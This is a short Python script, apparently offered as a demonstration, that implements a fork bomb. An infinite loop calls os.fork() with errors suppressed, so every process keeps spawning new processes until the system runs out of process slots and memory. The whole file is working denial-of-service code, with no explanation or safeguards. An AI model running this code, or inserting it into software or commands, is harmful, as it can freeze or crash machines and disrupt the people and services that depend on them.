"""Every process starts another two."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
